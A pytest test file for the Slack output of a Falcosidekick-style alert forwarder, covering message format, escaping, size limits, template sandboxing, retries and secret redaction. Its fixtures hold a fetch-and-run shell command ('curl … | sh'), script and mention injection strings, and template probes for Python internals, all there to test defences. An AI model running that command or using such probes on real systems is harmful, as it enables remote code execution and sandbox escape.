"""The Slack output against a real HTTP receiver on loopback, and through the real hub."""

from __future__ import annotations

import asyncio
import logging
import os
import ssl
import subprocess
import sys
import time
import traceback
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from aiohttp import web
from pydantic import ValidationError

from outputs.base import PermanentError, RetryableError
from outputs.slack import COLORS, SlackConfig, SlackOutput
from sidekick.alert import Alert, Priority
from sidekick.config import ConfigError, load_config
from tests.certs import make_pki
from tests.hubproc import HubProcess, falco_alert
from tests.receiver import Receiver, Request
from tests.support import free_port

TOKEN = "T0KEN-in-the-slack-url-5c2e"
HOSTILE = "<!channel> <script>alert(1)</script> <http://evil.example|click> *bold* `tick` & co"
HOSTILE_ESCAPED = (
    "&lt;!channel&gt; &lt;script&gt;alert(1)&lt;/script&gt; &lt;http://evil.example|click&gt; "
    "*bold* `tick` &amp; co"
)
TIME = "2023-11-14 22:13:20.123456789 +0000 UTC"  # Falcosidekick's form of the alert's time


def make_alert(n: int = 0, **changes: Any) -> Alert:
    alert = Alert(
        rule="Terminal shell in container",
        priority=Priority.WARNING,
        time_ns=1_700_000_000_123_456_789,
        output_fields={
            "proc.name": "bash",
            "proc.cmdline": "bash -c 'curl http://example.com/x.sh | sh'",
            "proc.pid": 4242,
            "evt.num": n,
            "fd.name": None,
            "proc.is_exe_writable": False,
            "proc.aname": ["sshd", "bash"],
        },
        output="A shell was spawned in a container (user=root) é ✓",
        tags=["shell", "container"],
        hostname="node-1",
        uuid=f"00000000-0000-4000-8000-{n:012d}",
    )
    for key, value in changes.items():
        setattr(alert, key, value)
    return alert


def hook_url(rx: Receiver) -> str:
    return f"{rx.url}/services/{TOKEN}"


def slack(**keys: Any) -> SlackOutput:
    """The output; `async with` starts and closes it."""
    return SlackOutput(SlackConfig(**keys))


async def post(rx: Receiver, alert: Alert, **keys: Any) -> Request:
    """Send one alert with these keys; the request the receiver recorded."""
    before = rx.count
    async with slack(webhookurl=hook_url(rx), **keys) as out:
        await out.send([alert])
    return rx.wait_for(before + 1)[-1]


def field(title: str, value: str, short: bool = True) -> dict[str, Any]:
    return {"title": title, "value": value, "short": short}


HEAD = [
    field("rule", "Terminal shell in container"),
    field("priority", "Warning"),
    field("source", "syscalls"),
    field("hostname", "node-1"),
    field("tags", "container, shell"),
]
OUTPUT_FIELDS = [
    field("evt.num", "0"),
    field("fd.name", "&lt;NA&gt;"),
    field("proc.aname", "sshd, bash"),
    field("proc.cmdline", "bash -c 'curl http://example.com/x.sh | sh'", short=False),
    field("proc.is_exe_writable", "false"),
    field("proc.name", "bash"),
    field("proc.pid", "4242"),
]
OUTPUT = "A shell was spawned in a container (user=root) é ✓"


def assert_clean(exc: BaseException, port: int) -> None:
    everything = str(exc) + repr(exc) + "".join(traceback.format_exception(exc))
    for secret in (TOKEN, "127.0.0.1", f":{port}", "/services"):
        assert secret not in everything, f"{secret!r} leaked into {everything!r}"


def within_limits(message: dict[str, Any]) -> None:
    """Every limit the output promises (see outputs/slack.py)."""
    [attachment] = message["attachments"]
    assert len(message.get("text", "")) <= 4000
    assert len(attachment["fallback"]) <= 8000
    assert len(attachment.get("text", "")) <= 8000
    fields = attachment.get("fields", [])
    assert len(fields) <= 50
    for item in fields:
        assert len(item["title"]) <= 300 and len(item["value"]) <= 2000
    total = len(message.get("text", "")) + len(attachment["fallback"])
    total += len(attachment.get("text", "")) + len(attachment.get("footer", ""))
    total += sum(len(item["title"]) + len(item["value"]) for item in fields)
    assert total <= 40000


# -- the payload ---------------------------------------------------------------------------


async def test_outputformat_all_exact_json(receiver: Receiver) -> None:
    req = await post(receiver, make_alert())
    assert req.json == {
        "username": "Lanner",
        "attachments": [
            {
                "fallback": OUTPUT,
                "color": "#ffc700",
                "text": OUTPUT,
                "fields": [*HEAD, *OUTPUT_FIELDS, field("time", TIME, short=False)],
                "footer": "Lanner",
            }
        ],
    }
    assert req.method == "POST"
    assert req.path == f"/services/{TOKEN}"
    assert req.headers["user-agent"] == "Lanner"
    assert req.headers["content-type"].startswith("application/json")


async def test_outputformat_text_exact_json(receiver: Receiver) -> None:
    req = await post(receiver, make_alert(), outputformat="text")
    assert req.json == {
        "username": "Lanner",
        "attachments": [{"fallback": OUTPUT, "color": "#ffc700", "text": OUTPUT}],
    }


async def test_outputformat_fields_exact_json(receiver: Receiver) -> None:
    alert = make_alert(hostname="", tags=[])  # neither field appears then, as Falcosidekick
    req = await post(receiver, alert, outputformat=" FIELDS ")
    assert req.json == {
        "username": "Lanner",
        "attachments": [
            {
                "fallback": OUTPUT,
                "color": "#ffc700",
                "fields": [*HEAD[:3], *OUTPUT_FIELDS, field("time", TIME, short=False)],
                "footer": "Lanner",
            }
        ],
    }


async def test_channel_username_icon_footer(receiver: Receiver) -> None:
    keys = {"channel": "#alerts", "username": "Falcosidekick", "footer": "<https://runbook|Runbook>",
            "icon": "https://example.com/falco.png", "outputformat": "text"}
    req = await post(receiver, make_alert(output="x"), **keys)
    assert req.json == {
        "username": "Falcosidekick",
        "icon_url": "https://example.com/falco.png",
        "channel": "#alerts",
        "attachments": [{"fallback": "x", "color": "#ffc700", "text": "x"}],
    }
    # empty username and footer are left out: the webhook's own name, no footer
    req = await post(receiver, make_alert(output=""), username="", footer="")
    [attachment] = req.json["attachments"]
    assert "username" not in req.json
    assert "footer" not in attachment
    assert "text" not in attachment and attachment["fallback"] == ""
    # the footer is config, not alert data: sent as written, markup included
    req = await post(receiver, make_alert(), footer="<https://runbook|Runbook>")
    assert req.json["attachments"][0]["footer"] == "<https://runbook|Runbook>"


async def test_colour_of_every_priority(receiver: Receiver) -> None:
    expected = {
        "Emergency": "#e20b0b", "Alert": "#ff5400", "Critical": "#ff5400", "Error": "#e20b0b",
        "Warning": "#ffc700", "Notice": "#5bffb5", "Informational": "#68c2ff", "Debug": "#ccfff2",
    }
    assert {p.label: c for p, c in COLORS.items()} == expected
    async with slack(webhookurl=hook_url(receiver)) as out:
        await out.send([make_alert(priority=p) for p in Priority])
    requests = receiver.wait_for(len(Priority))
    seen = {r.json["attachments"][0]["fields"][1]["value"]: r.json["attachments"][0]["color"]
            for r in requests}
    assert seen == expected


# -- escaping ------------------------------------------------------------------------------


async def test_hostile_strings_arrive_as_text(receiver: Receiver) -> None:
    alert = make_alert(
        output=HOSTILE, rule=f"rule {HOSTILE}", hostname="<!here>", tags=["<@U123>"],
        output_fields={"proc.cmdline": HOSTILE, "<!everyone>": "k"},
    )
    req = await post(receiver, alert, messageformat="<!here> {{ Output }} {{ Hostname }}")
    # the template's own markup stays; everything from the alert is escaped
    assert req.json["text"] == f"<!here> {HOSTILE_ESCAPED} &lt;!here&gt;"
    [attachment] = req.json["attachments"]
    assert attachment["fallback"] == HOSTILE_ESCAPED
    assert attachment["text"] == HOSTILE_ESCAPED
    assert attachment["fields"] == [
        field("rule", f"rule {HOSTILE_ESCAPED}"),  # rule to tags: always short, as Falcosidekick
        field("priority", "Warning"),
        field("source", "syscalls"),
        field("hostname", "&lt;!here&gt;"),
        field("tags", "&lt;@U123&gt;"),
        field("&lt;!everyone&gt;", "k"),
        field("proc.cmdline", HOSTILE_ESCAPED, short=False),
        field("time", TIME, short=False),
    ]
    assert "<" not in str(attachment) and "&co" not in str(attachment)


# -- limits --------------------------------------------------------------------------------


async def test_forty_fields_and_a_10kb_command_line_get_through(receiver: Receiver) -> None:
    cmdline = "x" * 10_000
    fields: dict[str, Any] = {f"k8s.label.{i:02d}": f"value-{i}" for i in range(39)}
    fields["proc.cmdline"] = cmdline
    alert = make_alert(output=f"Shell (cmdline={cmdline})", output_fields=fields)
    req = await post(receiver, alert, messageformat="{{ Output }}")
    assert req.ok
    within_limits(req.json)
    [attachment] = req.json["attachments"]
    assert req.json["text"] == f"Shell (cmdline={cmdline})"[:3999] + "…"
    assert attachment["text"] == f"Shell (cmdline={cmdline})"[:7999] + "…"
    titles = [f["title"] for f in attachment["fields"]]
    assert len(titles) == 5 + 40 + 1  # nothing had to be dropped: 46 fields
    assert titles[-1] == "time"
    [value] = [f["value"] for f in attachment["fields"] if f["title"] == "proc.cmdline"]
    assert value == "x" * 1999 + "…"


async def test_too_many_fields_leave_a_count(receiver: Receiver) -> None:
    fields = {f"f{i:03d}": "v" * 1500 for i in range(80)}
    req = await post(receiver, make_alert(output_fields=fields))
    within_limits(req.json)
    got = req.json["attachments"][0]["fields"]
    kept = [f["title"] for f in got if f["title"].startswith("f")]
    # 40,000 characters minus the output text, fallback, footer and fixed fields leave room
    # for 26 values of 1,504; the notice counts what was left out, in the last field
    assert kept == [f"f{i:03d}" for i in range(26)]
    assert [f["title"] for f in got[-2:]] == ["time", "more fields"]
    assert got[-1]["value"] == "54 output field(s) left out to fit Slack's limits"


async def test_escaping_never_overflows_or_splits_an_entity(receiver: Receiver) -> None:
    alert = make_alert(output="<" * 9000, output_fields={"v": "&" * 3000})
    req = await post(receiver, alert)
    within_limits(req.json)
    [attachment] = req.json["attachments"]
    assert attachment["text"] == "&lt;" * 1999 + "…"  # 7,996 + 1 characters
    [value] = [f["value"] for f in attachment["fields"] if f["title"] == "v"]
    assert value == "&amp;" * 399 + "…"


# -- messageformat -------------------------------------------------------------------------


async def test_messageformat_sees_falcosidekick_names(receiver: Receiver) -> None:
    template = (
        "{{ Priority }}: {{ Rule }} on {{ Hostname }} ({{ Source }}) at {{ Time }} | {{ Output }}"
        " | pod={{ OutputFields['k8s.pod.name'] }} pid={{ OutputFields['proc.pid'] + 1 }}"
        " tags={{ Tags }} first={{ Tags[0] }} uuid={{ UUID }}"
        "{% if Priority == 'Warning' %} <!here>{% endif %} missing=[{{ Nope }}]"
    )
    alert = make_alert(7, tags=["container", "shell"])
    alert.output_fields["k8s.pod.name"] = "web-1"
    req = await post(receiver, alert, messageformat=template)
    assert req.json["text"] == (
        f"Warning: Terminal shell in container on node-1 (syscalls) at {TIME} | {OUTPUT}"
        " | pod=web-1 pid=4243 tags=container, shell first=container"
        " uuid=00000000-0000-4000-8000-000000000007 <!here> missing=[]"
    )


@pytest.mark.parametrize(
    ("template", "message"),
    [
        ("{{ ''.__class__.__mro__ }}", "may not use '__mro__' (Python internals)"),
        ("{{ Rule.__class__ }}", "may not use '__class__' (Python internals)"),
        ("{{ .Rule }}", "invalid template at line 1: unexpected '.'; templates are Jinja: "
                        "{{ Rule }} where Falcosidekick had {{ .Rule }}"),
        ('{{ index .OutputFields "k8s.pod.name" }}', "where Falcosidekick had {{ .Rule }}"),
        ("ok\n{% if Rule %}", "invalid template at line 2: Unexpected end of template"),
    ],
)
def test_bad_templates_are_config_errors(template: str, message: str) -> None:
    with pytest.raises(ValidationError) as info:
        SlackConfig(webhookurl="https://hooks.slack.com/x", messageformat=template)
    [error] = info.value.errors()
    assert error["loc"] == ("messageformat",)
    assert message in error["msg"]


async def test_template_cannot_reach_internals_or_change_the_alert(
    receiver: Receiver, caplog: pytest.LogCaptureFixture
) -> None:
    # the sandbox turns a filter-made attribute access into nothing
    req = await post(receiver, make_alert(), messageformat="[{{ Rule|attr('__class__') }}]")
    assert req.json["text"] == "[]"
    # a template that tries to change the alert fails; the alert still goes, without text
    alert = make_alert()
    before = dict(alert.output_fields)
    caplog.set_level(logging.WARNING, logger="lanner.slack")
    req = await post(receiver, alert, messageformat="{{ OutputFields.clear() }}")
    assert alert.output_fields == before
    assert "text" not in req.json
    assert req.json["attachments"][0]["text"] == OUTPUT
    assert "SecurityError" in caplog.text


async def test_render_error_sends_without_text_and_logs_once(
    receiver: Receiver, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="lanner.slack")
    async with slack(webhookurl=hook_url(receiver), messageformat="{{ Rule + 1 }}") as out:
        await out.send([make_alert(1), make_alert(2)])
    requests = receiver.wait_for(2)
    assert all(r.ok and "text" not in r.json for r in requests)
    records = [r for r in caplog.records if r.name == "lanner.slack"]
    assert len(records) == 1
    assert "messageformat failed (TypeError" in records[0].getMessage()


# -- errors --------------------------------------------------------------------------------


async def test_429_is_retryable_with_retry_after(receiver: Receiver) -> None:
    receiver.respond_with(429, {"Retry-After": "7"}, b"rate_limited", times=1)
    async with slack(webhookurl=hook_url(receiver)) as out:
        with pytest.raises(RetryableError) as info:
            await out.send([make_alert()])
    assert info.value.retry_after == 7.0
    assert str(info.value) == "slack: HTTP 429 (rate_limited)"
    assert receiver.count == 1
    assert_clean(info.value, receiver.port)


async def test_dropped_connection_is_retryable_and_not_retried_by_the_sdk() -> None:
    attempts = 0

    async def hang_up(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal attempts
        await reader.readuntil(b"\r\n\r\n")
        attempts += 1
        writer.close()

    server = await asyncio.start_server(hang_up, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    try:
        async with slack(webhookurl=f"http://127.0.0.1:{port}/services/{TOKEN}") as out:
            with pytest.raises(RetryableError) as info:
                await out.send([make_alert()])
    finally:
        server.close()
        await server.wait_closed()
    assert str(info.value) == "slack: connection failed"
    assert attempts == 1  # the SDK's own retry handlers are off: the hub's queue retries
    assert_clean(info.value, port)


@pytest.mark.parametrize("status", [408, 500, 503])
async def test_retryable_statuses(receiver: Receiver, status: int) -> None:
    receiver.respond_with(status, body=b"", times=1)
    async with slack(webhookurl=hook_url(receiver)) as out:
        with pytest.raises(RetryableError) as info:
            await out.send([make_alert()])
    assert str(info.value) == f"slack: HTTP {status}"
    assert info.value.retry_after is None


@pytest.mark.parametrize(
    ("status", "body", "message"),
    [
        (400, b"invalid_payload", "slack: HTTP 400 (invalid_payload)"),
        (403, b"action_prohibited", "slack: HTTP 403 (action_prohibited)"),
        (404, b"no_service", "slack: HTTP 404 (no_service)"),
        (410, b"channel_is_archived", "slack: HTTP 410 (channel_is_archived)"),
        (404, f"<html>{TOKEN}</html>".encode(), "slack: HTTP 404"),  # not a code: not shown
    ],
)
async def test_permanent_statuses(receiver: Receiver, status: int, body: bytes,
                                  message: str) -> None:
    receiver.respond_with(status, body=body, times=1)
    async with slack(webhookurl=hook_url(receiver)) as out:
        with pytest.raises(PermanentError) as info:
            await out.send([make_alert()])
    assert str(info.value) == message
    assert_clean(info.value, receiver.port)


async def test_undecodable_answer_is_retryable(receiver: Receiver) -> None:
    receiver.respond_with(502, {"Content-Type": "text/html"}, b"\xff\xfe proxy \x80", times=1)
    async with slack(webhookurl=hook_url(receiver)) as out:
        with pytest.raises(RetryableError) as info:
            await out.send([make_alert()])
    assert str(info.value) == "slack: answer is not UTF-8 text"


async def test_connection_refused_and_timeout_are_retryable(receiver: Receiver) -> None:
    port = free_port()
    async with slack(webhookurl=f"http://127.0.0.1:{port}/services/{TOKEN}", timeout=2) as out:
        with pytest.raises(RetryableError) as info:
            await out.send([make_alert()])
    assert str(info.value) == "slack: connection failed"
    assert_clean(info.value, port)
    receiver.respond_with(200, delay=1.5, times=1)
    async with slack(webhookurl=hook_url(receiver), timeout=0.3) as out:
        started = time.monotonic()
        with pytest.raises(RetryableError) as info:
            await out.send([make_alert()])
        assert time.monotonic() - started < 1.4
    assert str(info.value) == "slack: timeout"
    assert_clean(info.value, receiver.port)


@asynccontextmanager
async def tls_server(directory: Path) -> AsyncIterator[tuple[str, list[bytes]]]:
    """An HTTPS endpoint with a certificate from a throwaway CA; yields (url, bodies)."""
    pki = make_pki(directory)
    bodies: list[bytes] = []

    async def handle(request: web.Request) -> web.Response:
        bodies.append(await request.read())
        return web.Response(status=204)

    app = web.Application()
    app.router.add_post("/{tail:.*}", handle)
    runner = web.AppRunner(app)
    await runner.setup()
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(pki.server_cert, pki.server_key)
    port = free_port()
    await web.TCPSite(runner, "127.0.0.1", port, ssl_context=context).start()
    try:
        yield f"https://127.0.0.1:{port}/services/{TOKEN}", bodies
    finally:
        await runner.cleanup()


async def test_checkcert(tmp_path: Path) -> None:
    async with tls_server(tmp_path) as (url, bodies):
        async with slack(webhookurl=url) as out:
            with pytest.raises(RetryableError):
                await out.send([make_alert()])  # the CA is not trusted
        assert bodies == []
        async with slack(webhookurl=url, checkcert=False) as out:
            await out.send([make_alert()])
        assert len(bodies) == 1


# -- config and secrets --------------------------------------------------------------------


async def test_webhook_url_never_logged(receiver: Receiver, caplog: pytest.LogCaptureFixture,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    caplog.set_level(logging.DEBUG)
    monkeypatch.setenv("HTTPS_PROXY", f"http://proxy-{TOKEN}.invalid:3128")
    async with slack(webhookurl=hook_url(receiver)) as out:
        await out.send([make_alert()])  # and no proxy taken from the environment
        receiver.respond_with(500, times=1)
        with pytest.raises(RetryableError):
            await out.send([make_alert()])
    assert [r.status for r in receiver.requests] == [200, 500]
    assert TOKEN not in caplog.text


def test_secrets_stay_out_of_repr_and_dumps() -> None:
    config = SlackConfig(webhookurl=f"https://hooks.slack.com/services/{TOKEN}")
    dumped = config.model_dump(mode="json")
    for text in (repr(config), str(config), repr(dumped), config.model_dump_json()):
        assert TOKEN not in text
    assert dumped["webhookurl"] == "**********"
    with pytest.raises(ValidationError) as info:
        SlackConfig(webhookurl=f"hooks.slack.com/services/{TOKEN}")
    assert info.value.errors()[0]["loc"] == ("webhookurl",)
    assert TOKEN not in str(info.value)


def test_enabled_and_defaults() -> None:
    assert not SlackOutput.enabled(SlackConfig())
    assert not SlackOutput.enabled(SlackConfig(webhookurl="  "))
    assert SlackOutput.enabled(SlackConfig(webhookurl="https://hooks.slack.com/x"))
    config = SlackConfig()
    assert (config.username, config.footer, config.icon, config.channel) == (
        "Lanner", "Lanner", "", "")
    assert (config.outputformat, config.messageformat, config.checkcert, config.timeout) == (
        "all", "", True, 10.0)
    assert SlackConfig(outputformat="").outputformat == "all"


def test_env_config() -> None:
    env = {
        "SLACK_WEBHOOKURL": f"https://hooks.slack.com/services/{TOKEN}",
        "SLACK_CHANNEL": "#sec", "SLACK_USERNAME": "falco", "SLACK_ICON": "https://x.test/i.png",
        "SLACK_FOOTER": "", "SLACK_OUTPUTFORMAT": "Text", "SLACK_MESSAGEFORMAT": "{{ Rule }}",
        "SLACK_MINIMUMPRIORITY": "error", "SLACK_TIMEOUT": "3", "SLACK_CHECKCERT": "false",
    }
    config = load_config(None, env=env).outputs["slack"]
    assert isinstance(config, SlackConfig)
    assert config.webhookurl.get_secret_value() == env["SLACK_WEBHOOKURL"]
    assert (config.channel, config.username, config.icon, config.footer) == (
        "#sec", "falco", "https://x.test/i.png", "")
    assert (config.outputformat, config.messageformat) == ("text", "{{ Rule }}")
    assert (config.minimumpriority, config.timeout, config.checkcert) == (
        Priority.ERROR, 3.0, False)


@pytest.mark.parametrize(
    ("env", "message"),
    [
        ({"SLACK_OUTPUTFORMAT": "field"},
         "env SLACK_OUTPUTFORMAT: must be all, text or fields, not 'field'"),
        ({"SLACK_MESSAGEFORMAT": "{{ .Output }}"},
         "env SLACK_MESSAGEFORMAT: invalid template at line 1: unexpected '.'"),
        ({"SLACK_WEBHOOKURL": f"hooks.slack.com/{TOKEN}"},
         "env SLACK_WEBHOOKURL: must be an http:// or https:// URL"),
        ({"SLACK_ICON": "logo.png"}, "env SLACK_ICON: must be an http:// or https:// URL"),
        ({"SLACK_CHECKCERT": "maybe"}, "env SLACK_CHECKCERT: Input should be a valid boolean"),
        ({"SLACK_FOOTER": "f" * 301}, "env SLACK_FOOTER: String should have at most 300"),
        ({"SLACK_MINIMUMPRIORITY": "loud"}, "env SLACK_MINIMUMPRIORITY: unknown priority"),
    ],
)
def test_bad_env_values_name_the_variable(env: dict[str, str], message: str) -> None:
    with pytest.raises(ConfigError) as info:
        load_config(None, env={"SLACK_WEBHOOKURL": "https://hooks.slack.com/x", **env})
    assert message in str(info.value)
    assert TOKEN not in str(info.value)


def test_bad_yaml_template_names_file_line_and_key(tmp_path: Path) -> None:
    path = tmp_path / "config.yaml"
    path.write_text("slack:\n  webhookurl: https://hooks.slack.com/x\n"
                    "  messageformat: '{{ Rule.__class__ }}'\n")
    with pytest.raises(ConfigError) as info:
        load_config(path, env={})
    assert str(info.value) == (
        f"{path}:3: slack.messageformat: the template may not use '__class__' (Python internals)"
    )


def test_cli_reports_a_bad_template_without_traceback() -> None:
    env = {**os.environ, "SLACK_WEBHOOKURL": f"https://hooks.slack.com/{TOKEN}",
           "SLACK_MESSAGEFORMAT": "{{ Rule "}
    result = subprocess.run(
        [sys.executable, "-m", "sidekick.cli", "sidekick", "--check"],
        capture_output=True, text=True, env=env, timeout=60,
    )
    assert result.returncode == 2
    assert result.stderr.startswith(
        "lanner: configuration error: env SLACK_MESSAGEFORMAT: invalid template at line 1")
    assert "Traceback" not in result.stderr and TOKEN not in result.stderr


# -- through the hub -----------------------------------------------------------------------


def hub_config(receiver: Receiver) -> dict[str, Any]:
    return {
        "slack": {"webhookurl": hook_url(receiver), "timeout": 2},
        "delivery": {"initialbackoff": "50ms", "maxbackoff": "1s"},
    }


def post_alert(hub: HubProcess, alert: dict[str, Any]) -> None:
    assert httpx.post(f"{hub.url}/", json=alert).status_code == 200


def wait_until(check: Any, timeout: float = 15.0) -> Any:
    deadline = time.monotonic() + timeout
    while not (result := check()):
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.05)
    return result


def test_hub_retries_429_and_5xx_then_delivers_once(tmp_path: Path, receiver: Receiver) -> None:
    receiver.respond_with(429, {"Retry-After": "1"}, b"rate_limited", times=1)
    receiver.respond_with(503, body=b"", times=2)
    receiver.respond_with(500, body=b"", times=1)
    with HubProcess(tmp_path, hub_config(receiver)) as hub:
        post_alert(hub, falco_alert(1))
        receiver.wait_for(1, ok=True, timeout=20)
        time.sleep(0.3)  # a duplicate would arrive now
        requests = receiver.requests
    assert [r.status for r in requests] == [429, 503, 503, 500, 200]
    assert requests[1].received_at - requests[0].received_at >= 0.95  # Retry-After: 1
    assert len({r.body for r in requests}) == 1  # the same message each time
    assert "n=1)" in requests[-1].json["attachments"][0]["text"]


def test_hub_dead_letters_a_permanent_error(tmp_path: Path, receiver: Receiver) -> None:
    receiver.respond_with(404, body=b"no_service", times=1)
    with HubProcess(tmp_path, hub_config(receiver)) as hub:
        alert = falco_alert(2)
        post_alert(hub, alert)
        dead = wait_until(
            lambda: httpx.get(f"{hub.url}/api/v1/deadletters").json()["deadletters"])
        assert dead[0]["alert"]["uuid"] == alert["uuid"]
        assert dead[0]["reason"] == "slack: HTTP 404 (no_service)"
        assert TOKEN not in hub.log()
    assert receiver.count == 1


def test_hub_from_env_filters_and_test_endpoint(tmp_path: Path, receiver: Receiver) -> None:
    env = {"SLACK_WEBHOOKURL": hook_url(receiver), "SLACK_MINIMUMPRIORITY": "critical",
           "SLACK_OUTPUTFORMAT": "text", "SLACK_MESSAGEFORMAT": "{{ Priority }} {{ Rule }}"}
    with HubProcess(tmp_path, {}, env=env) as hub:
        post_alert(hub, falco_alert(3))  # Warning: below the minimum, not sent
        post_alert(hub, falco_alert(4, priority="Critical"))
        response = httpx.post(f"{hub.url}/test")
        assert response.status_code == 200
        receiver.wait_for(2)
        time.sleep(0.3)
        bodies = [r.json for r in receiver.requests]
        assert "slack" in httpx.get(f"{hub.url}/api/v1/outputs").json()
        assert TOKEN not in hub.log()
    assert [b["text"] for b in bodies] == [
        "Critical Terminal shell in container", "Debug Test rule"]
    assert bodies[1]["attachments"] == [{
        "fallback": "This is a test from Lanner", "color": "#ccfff2",
        "text": "This is a test from Lanner",
    }]
